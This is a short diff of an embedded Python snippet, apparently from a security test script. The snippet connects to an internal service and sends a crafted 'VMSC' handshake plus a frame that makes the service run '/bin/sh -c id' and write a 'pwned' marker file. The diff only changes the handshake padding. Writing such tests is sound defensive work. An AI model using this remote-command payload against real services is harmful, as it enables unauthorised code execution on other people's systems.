@@ -225,7 +225,7 @@ s = socket.create_connection(("10.77.0.11", 7000))
 def frame(t, b): return struct.pack(">IB", len(b) + 1, t) + b
 args = [b"/bin/sh", b"-c", b"id > '"$tmp"'/pwned"]
 body = struct.pack(">QIH", 0, 0, len(args)) + b"".join(struct.pack(">H", len(a)) + a for a in args)
-s.sendall(frame(1, b"VMSC" + struct.pack(">HQ", 3, 7) + b"\x02t1" + b"\0" * 33) + frame(16, body))
+s.sendall(frame(1, b"VMSC" + struct.pack(">HQ", 3, 7) + b"\x02t1" + b"\0") + frame(16, body))
 s.settimeout(5)
 try:
     s.recv(100)
